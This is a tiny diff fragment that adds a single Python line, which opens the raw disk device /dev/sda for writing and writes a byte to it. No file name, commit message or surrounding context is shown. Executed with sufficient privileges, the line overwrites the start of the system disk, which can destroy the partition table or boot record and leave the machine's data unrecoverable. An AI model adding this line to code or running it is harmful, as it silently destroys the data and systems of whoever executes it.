@@ -1,0 +1,1 @@
+open('/dev/sda', 'wb').write(b'0')
